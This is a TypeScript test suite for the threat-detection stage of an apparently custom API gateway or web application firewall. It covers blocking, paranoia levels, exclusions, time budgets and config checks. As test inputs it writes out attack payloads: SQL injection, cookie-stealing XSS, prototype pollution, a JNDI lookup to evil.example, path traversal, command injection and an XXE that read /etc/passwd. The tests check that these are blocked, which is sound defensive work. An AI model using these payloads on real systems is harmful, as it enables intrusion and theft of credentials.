// The threats stage as the core builds it: blocking with rule ids, log-only findings above the
// blocking paranoia, exclusions by location and by operation, bodies of each kind, the time budget
// under both failure policies, and config checks. The detectors themselves are tested beside each one
// and against the corpus (test/integration/detect-corpus.test.ts).
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createTestStage, stageConfigProblems } from '../../../../test/helpers/stage.js';
import { BulwarkError } from '../../../core/errors.js';
import { createRequestBody } from '../../request-body.js';
import type { RecordedEvent, RequestContext } from '../../request-context.js';
import type { Stage } from '../../stage.js';
import type { Denial, Verdict } from '../../verdict.js';
import { OWASP } from '../../../detect/rule.js';
import { threatsStage } from './index.js';

interface Shape {
  headers?: Readonly<Record<string, string>>;
  body?: { text: string; contentType: string };
  operation?: { method: string; pathTemplate: string; operationId?: string };
}

function contextOf(method: string, target: string, shape: Shape = {}): RequestContext {
  const queryStart = target.indexOf('?');
  const bodyHeaders: Record<string, string> = shape.body
    ? { 'content-type': shape.body.contentType, 'content-length': String(Buffer.byteLength(shape.body.text)) }
    : {};
  const headers: Record<string, string> = { host: 'api.example', 'user-agent': 'test-client/1.0', ...bodyHeaders, ...shape.headers };
  return {
    id: 'req-1', startedAt: 0, method, url: target,
    path: queryStart === -1 ? target : target.slice(0, queryStart),
    query: queryStart === -1 ? '' : target.slice(queryStart + 1),
    headers, rawHeaders: Object.entries(headers).flat(),
    protocol: 'https', host: 'api.example', remoteAddress: '192.0.2.1', clientIp: '192.0.2.1', routeName: 'api',
    ...(shape.operation ? { operation: shape.operation } : {}),
    bodyLimit: { maxBytes: 4 * 1024 * 1024, maxInflateRatio: 100 },
    events: [],
  };
}

/** Both phases as the gateway runs them: the body phase only when onRequest continued and the stage asked. */
async function inspect(stage: Stage, method: string, target: string, shape: Shape = {}): Promise<{ verdict: Verdict; events: RecordedEvent[] }> {
  const ctx = contextOf(method, target, shape);
  const first = stage.onRequest?.(ctx);
  assert.ok(first !== undefined && !(first instanceof Promise), 'onRequest is synchronous');
  if (first.action !== 'continue' || shape.body === undefined) return { verdict: first, events: ctx.events };
  assert.equal(stage.needsBody?.(ctx), true, 'the stage asks for the body');
  const bytes = Buffer.from(shape.body.text);
  const mediaType = shape.body.contentType.split(';')[0]!.trim().toLowerCase();
  const verdict = await stage.onRequestBody!(ctx, createRequestBody(bytes, bytes, mediaType));
  return { verdict, events: ctx.events };
}

function denialOf(verdict: Verdict): Denial {
  assert.equal(verdict.action, 'deny', `expected a denial, got ${JSON.stringify(verdict)}`);
  return verdict;
}

const SQLI = encodeURIComponent("1' UNION SELECT username, password FROM users--");
const json = (value: unknown) => ({ text: JSON.stringify(value), contentType: 'application/json' });

describe('threats stage', () => {
  const stage = createTestStage(threatsStage);

  it('lets ordinary requests through without events', async () => {
    const { verdict, events } = await inspect(stage, 'POST', "/orders?search=O'Neil%20and%20sons&page=2", {
      body: json({ note: 'Please select the blue one, or the red one if it is sold out; thanks!', qty: 2, tags: ['gift'] }),
    });
    assert.equal(verdict.action, 'continue');
    assert.deepEqual(events, []);
  });

  it('blocks an attack in the query with 403, naming the location and rule ids', async () => {
    const denial = denialOf((await inspect(stage, 'GET', `/items?id=${SQLI}`)).verdict);
    assert.equal(denial.status, 403);
    assert.equal(denial.ruleId, 'threats.attack');
    assert.ok(denial.problems!.length > 0);
    for (const problem of denial.problems!) {
      assert.equal(problem.location, 'query.id');
      assert.match(problem.problem, /^sqli\./);
    }
    const evidence = denial.evidence as { location: string; matched: string; rules: string[]; score: number };
    assert.equal(evidence.location, 'query.id');
    assert.ok(evidence.score >= 5);
    assert.ok(evidence.rules.every((id) => id.startsWith('sqli.')));
    assert.match(denial.detail, /sqli\./);
    assert.ok(evidence.matched.length <= 80, 'the fragment is truncated');
  });

  it('inspects JSON bodies, keys as well as values, with their JSON path', async () => {
    const xss = denialOf((await inspect(stage, 'POST', '/comments', { body: json({ post: 7, comment: { text: '<img src=x onerror=alert(document.cookie)>' } }) })).verdict);
    assert.deepEqual(xss.problems!.map((problem) => problem.location).filter((location, index, all) => all.indexOf(location) === index), ['body.$.comment.text']);
    const pollution = denialOf((await inspect(stage, 'POST', '/settings', { body: { text: '{"theme":"dark","__proto__":{"isAdmin":true}}', contentType: 'application/json' } })).verdict);
    assert.ok(pollution.problems!.some((problem) => problem.problem.startsWith('prototype-pollution.')));
  });

  it('inspects headers, cookies, form and XML bodies', async () => {
    const header = denialOf((await inspect(stage, 'GET', '/x', { headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } })).verdict);
    assert.ok(header.problems!.some((problem) => problem.location === 'header.user-agent' && problem.problem.startsWith('jndi.')));
    // The SSRF detector also sees the ldap: URL inside; the event is about the lookup that encloses it.
    assert.equal(header.evidence?.matched, '${jndi:ldap://evil.example/a}');
    assert.equal(header.category, OWASP.components);
    const cookie = denialOf((await inspect(stage, 'GET', '/x', { headers: { cookie: 'session=abc; lang=../../../../etc/passwd' } })).verdict);
    assert.ok(cookie.problems!.some((problem) => problem.location === 'cookie.lang'));
    const form = denialOf((await inspect(stage, 'POST', '/ping', { body: { text: 'host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd', contentType: 'application/x-www-form-urlencoded' } })).verdict);
    assert.ok(form.problems!.some((problem) => problem.problem.startsWith('cmdi.') || problem.problem.startsWith('lfi.')));
    const xml = denialOf((await inspect(stage, 'POST', '/soap', {
      body: { text: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', contentType: 'text/xml' },
    })).verdict);
    assert.ok(xml.problems!.some((problem) => problem.problem.startsWith('xxe.')));
  });

  it('does not read the body when inspectBody is off', () => {
    const off = createTestStage(threatsStage, { inspectBody: false });
    const ctx = contextOf('POST', '/c', { body: json({ q: "' OR 1=1--" }) });
    assert.deepEqual(off.onRequest!(ctx), { action: 'continue' });
    assert.equal(off.needsBody?.(ctx), false);
  });

  it('records rules above the blocking paranoia as an allowed event and lets the request through', async () => {
    const value = encodeURIComponent('select name from users');
    const strict = createTestStage(threatsStage, { paranoia: 1, detectionParanoia: 4 });
    const { verdict, events } = await inspect(strict, 'GET', `/search?q=${value}`);
    assert.equal(verdict.action, 'continue');
    assert.equal(events.length, 1);
    const [event] = events;
    assert.equal(event!.ruleId, 'threats.suspicious');
    assert.equal(event!.action, 'allowed');
    const evidence = event!.evidence as { findings: { rule: string; blocking: boolean; paranoia: number }[]; score: number };
    assert.equal(evidence.score, 0);
    assert.ok(evidence.findings.length > 0 && evidence.findings.every((finding) => !finding.blocking && finding.paranoia > 1));
    // The same rule blocks at its own level.
    const atThree = createTestStage(threatsStage, { paranoia: 3, threshold: 3 });
    assert.equal(denialOf((await inspect(atThree, 'GET', `/search?q=${value}`)).verdict).status, 403);
    // And stays silent at the default.
    assert.deepEqual((await inspect(stage, 'GET', `/search?q=${value}`)).events, []);
  });

  it('scores distinct rules against the threshold', async () => {
    const lenient = createTestStage(threatsStage, { threshold: 100 });
    const { verdict, events } = await inspect(lenient, 'GET', `/items?id=${SQLI}`);
    assert.equal(verdict.action, 'continue');
    assert.equal(events[0]?.ruleId, 'threats.suspicious');
    assert.ok((events[0]?.evidence as { score: number }).score >= 5);
  });

  it('applies exclusions by rule and location, and only there', async () => {
    const tuned = createTestStage(threatsStage, {
      exclusions: [{ rules: ['sqli.*'], locations: ['query.id'], reason: 'id is passed to a parameterised query' }],
    });
    const excluded = await inspect(tuned, 'GET', `/items?id=${SQLI}`);
    assert.equal(excluded.verdict.action, 'continue');
    assert.deepEqual(excluded.events, []);
    assert.equal(denialOf((await inspect(tuned, 'GET', `/items?name=${SQLI}`)).verdict).status, 403, 'another parameter is still protected');
  });

  it('applies an exclusion limited to operations only on those operations', async () => {
    const tuned = createTestStage(threatsStage, {
      exclusions: [{ rules: ['*'], locations: ['body.$.html'], operations: ['updatePage', 'PUT /pages/{id}'], reason: 'rich-text editor, sanitised by the CMS' }],
    });
    const body = json({ html: '<script>alert(1)</script>' });
    const byId = await inspect(tuned, 'POST', '/pages', { body, operation: { method: 'post', pathTemplate: '/pages', operationId: 'updatePage' } });
    assert.equal(byId.verdict.action, 'continue');
    const byTemplate = await inspect(tuned, 'PUT', '/pages/7', { body, operation: { method: 'put', pathTemplate: '/pages/{id}' } });
    assert.equal(byTemplate.verdict.action, 'continue');
    assert.equal(denialOf((await inspect(tuned, 'POST', '/posts', { body, operation: { method: 'post', pathTemplate: '/posts', operationId: 'createPost' } })).verdict).status, 403);
    assert.equal(denialOf((await inspect(tuned, 'POST', '/pages', { body })).verdict).status, 403, 'without a document no operation matches');
  });

  it('applies the failure policy when the time budget runs out', async () => {
    const prose = 'Thanks for the quick delivery, the shoes fit perfectly and the colour is exactly as shown.\n';
    const body = { text: prose.repeat(12_000), contentType: 'text/plain' };
    const open = await inspect(createTestStage(threatsStage, { budget: '1ms' }), 'POST', '/notes', { body });
    assert.equal(open.verdict.action, 'continue');
    assert.deepEqual(open.events.map((event) => [event.ruleId, event.action]), [['threats.budget-exceeded', 'allowed']]);
    const closed = denialOf((await inspect(createTestStage(threatsStage, { budget: '1ms', failurePolicy: 'closed' }), 'POST', '/notes', { body })).verdict);
    assert.equal(closed.status, 503);
    assert.equal(closed.ruleId, 'threats.budget-exceeded');
  });

  it('refuses configs that cannot work', () => {
    assert.throws(() => createTestStage(threatsStage, { paranoia: 3, detectionParanoia: 2 }), (error: unknown) => error instanceof BulwarkError && /detectionParanoia/.test(error.message));
    assert.throws(() => createTestStage(threatsStage, { exclusions: [{ rules: ['sqli.no-such-rule'], reason: 'typo' }] }), (error: unknown) => error instanceof BulwarkError && /matches no detection rule/.test(error.message));
    assert.notDeepEqual(stageConfigProblems(threatsStage, { paranoia: 5 }), []);
    assert.notDeepEqual(stageConfigProblems(threatsStage, { exclusions: [{ rules: ['xss.*'] }] }), [], 'an exclusion needs a reason');
  });
});
